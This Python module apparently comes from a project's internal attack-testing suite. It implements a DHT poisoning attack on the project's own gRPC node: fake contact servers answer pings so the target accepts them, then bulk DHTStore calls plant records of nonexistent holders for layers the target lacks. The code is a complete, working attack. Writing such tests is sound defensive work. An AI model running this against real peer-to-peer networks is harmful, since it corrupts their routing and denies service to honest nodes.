"""Stores records of holders that do not exist under the keys of the layers that the node lacks.

The attacker answers pings of the DHT, so the node believes that it is a contact and lets it store.
"""

from __future__ import annotations

import hashlib
import itertools
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from functools import partial

import grpc
import trio

from meshnode.domain.kademlia.holding import layer_key
from meshnode.wire import node_pb2 as pb
from tools.siege.attack import Attack, Target
from tools.siege.crowd import Crowd, hold
from tools.siege.grpc_frames import PREFACE, ROOM, Ends, call

LAYERS = "4-7"
LACKED = range(4, 8)
CONNECTIONS, CALLS = 2, 16
CALL_S = 10.0


def node_id(name: str) -> bytes:
    """An id, as of a key."""
    return hashlib.sha1(name.encode(), usedforsecurity=False).digest()


async def attack(target: Target, sources: Sequence[str]) -> None:
    """Attack until cancelled."""
    model_hash = await trio.to_thread.run_sync(_model_hash, target)
    numbers = itertools.count()
    servers = [_contact(source, target.grpc_port) for source in sources]

    async def visit(source: str, stream: trio.SocketStream) -> None:
        ids, ends = itertools.count(1, 2), Ends()
        sender = pb.DHTNodeInfo(node_id=node_id(source), ip=source, port=target.grpc_port)

        def calls(count: int) -> bytes:
            return b"".join(
                call(next(ids), "DHTStore", _record(sender, model_hash, source, next(numbers)))
                for _ in range(count)
            )

        await stream.send_all(PREFACE + ROOM + calls(CALLS))
        while received := await stream.receive_some(65536):
            if ended := ends.feed(received):
                await stream.send_all(calls(ended))

    try:
        async with trio.open_nursery() as nursery:
            for source in sources:
                crowd = Crowd(target.host, target.grpc_port, CONNECTIONS)
                nursery.start_soon(hold, [crowd], [source], partial(visit, source))
    finally:
        for server in servers:
            server.stop(None)


def _record(sender: pb.DHTNodeInfo, model_hash: str, source: str, number: int) -> bytes:
    key = layer_key(model_hash, LACKED[number % len(LACKED)])
    # An address at which nobody answers, and another id each time.
    value = f"{source}:{1024 + number % 60000} {node_id(f'{source} {number}').hex()}"
    return pb.DHTStoreRequest(sender=sender, key=key, value=value).SerializeToString()


def _model_hash(target: Target) -> str:
    with grpc.insecure_channel(f"{target.host}:{target.grpc_port}") as channel:
        ask = channel.unary_unary(
            "/node.NodeService/GetShardInfo",
            pb.GetShardInfoRequest.SerializeToString,
            pb.GetShardInfoResponse.FromString,
        )
        answer = ask(pb.GetShardInfoRequest(), timeout=CALL_S, wait_for_ready=True)
        return str(answer.model_hash)


def _contact(source: str, port: int) -> grpc.Server:
    """A contact of the DHT at ``source``, which knows nobody else."""
    me = pb.DHTNodeInfo(node_id=node_id(source), ip=source, port=port)
    answers = {
        "DHTPing": pb.DHTPingResponse(responder=me),
        "DHTFindNode": pb.DHTFindNodeResponse(responder=me),
        "DHTFindValue": pb.DHTFindValueResponse(responder=me),
        "DHTStore": pb.DHTStoreResponse(responder=me, success=True),
    }

    def handler(answer: bytes) -> Callable[[bytes, grpc.ServicerContext], bytes]:
        return lambda request, context: answer

    handlers = {
        name: grpc.unary_unary_rpc_method_handler(handler(answer.SerializeToString()))
        for name, answer in answers.items()
    }
    server = grpc.server(ThreadPoolExecutor(4))
    service = grpc.method_handlers_generic_handler("node.NodeService", handlers)
    server.add_generic_rpc_handlers((service,))
    server.add_insecure_port(f"{source}:{port}")
    server.start()
    return server


ATTACK = Attack(
    "records of holders that do not exist, for layers that the target lacks",
    attack,
    point=15,
    arguments=("--layers", "0-3"),
    peers=(("--layers", LAYERS),),
)
